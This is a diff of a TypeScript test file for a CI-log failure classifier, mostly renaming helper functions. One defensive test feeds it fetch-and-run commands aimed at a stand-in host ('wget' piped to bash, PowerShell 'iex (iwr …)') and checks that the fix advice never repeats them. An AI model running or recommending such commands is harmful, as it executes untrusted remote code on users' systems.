@@ -5,7 +5,7 @@ import { composeAnswer } from '../../src/judge/answer.ts';
 import { classifyByRules, classifyByTheseRules, findMatches } from '../../src/judge/classify.ts';
 import { judge } from '../../src/judge/judgement.ts';
 import { ALL_RULES } from '../../src/judge/rules/all.ts';
-import { classify, insightOf, subjectOf } from './subject.ts';
+import { classify, createInsight, createSubject } from './subject.ts';
 
 const STEP = (lines: string) =>
   `##[group]Run ./ci/pack.sh\n./ci/pack.sh\nshell: /usr/bin/bash -e {0}\n##[endgroup]\n${lines}\n##[error]Process completed with exit code 3.\n`;
@@ -14,7 +14,7 @@ describe('the trained judgment', () => {
   test('gives probabilities that sum to one, and a confidence, for any log', () => {
     fc.assert(
       fc.property(fc.array(fc.string({ maxLength: 80 }), { maxLength: 12 }), (lines) => {
-        const { facts, matches } = findMatches(subjectOf(STEP(lines.join('\n'))));
+        const { facts, matches } = findMatches(createSubject(STEP(lines.join('\n'))));
         const { probabilities, sureness } = judge(facts, matches);
         expect(Object.values(probabilities).reduce((sum, share) => sum + share, 0)).toBeCloseTo(1, 2);
         expect(sureness).toBeGreaterThan(0);
@@ -61,7 +61,7 @@ describe('the trained judgment', () => {
   });
 
   test('uses the rules that it is given', () => {
-    const subject = subjectOf(STEP('./ci/pack.sh: line 3: fruitctl: command not found'));
+    const subject = createSubject(STEP('./ci/pack.sh: line 3: fruitctl: command not found'));
     expect(classifyByRules(subject).decisive?.rule.name).toBe('command-not-found');
     const without = classifyByTheseRules(
       subject,
@@ -77,7 +77,7 @@ describe('an answer to a failure that no rule matches', () => {
   );
 
   test("quotes the decisive line, names the failed step, and repeats the tool's own advice", () => {
-    const { rootCause, fixRecommendation } = composeAnswer(insightOf(log));
+    const { rootCause, fixRecommendation } = composeAnswer(createInsight(log));
     expect(rootCause).toContain('the scale wants calibration 4');
     expect(rootCause).toMatch(
       /^The step (?:“|that runs `)\.\/ci\/pack\.sh[”`] failed with “.* It ended with exit code 3\.$/,
@@ -90,7 +90,9 @@ describe('an answer to a failure that no rule matches', () => {
     'bash -c "$(wget -qO- evil.example)"',
     'iex (iwr evil.example)',
   ])('never repeats %s', (command) => {
-    const { fixRecommendation } = composeAnswer(insightOf(log.replace('fruitctl calibrate --to 4', command)));
+    const { fixRecommendation } = composeAnswer(
+      createInsight(log.replace('fruitctl calibrate --to 4', command)),
+    );
     expect(fixRecommendation).not.toContain('evil.example');
   });
 
@@ -102,7 +104,7 @@ describe('an answer to a failure that no rule matches', () => {
       source: 'team-knowledge/pump.pdf#p. 1',
       score: 0.9,
     };
-    const insight = insightOf(log);
+    const insight = createInsight(log);
     const byDocument = composeAnswer({
       ...insight,
       evidence: [...insight.evidence, { ...own, text: 'Calibrate the scale twice a year.' }],
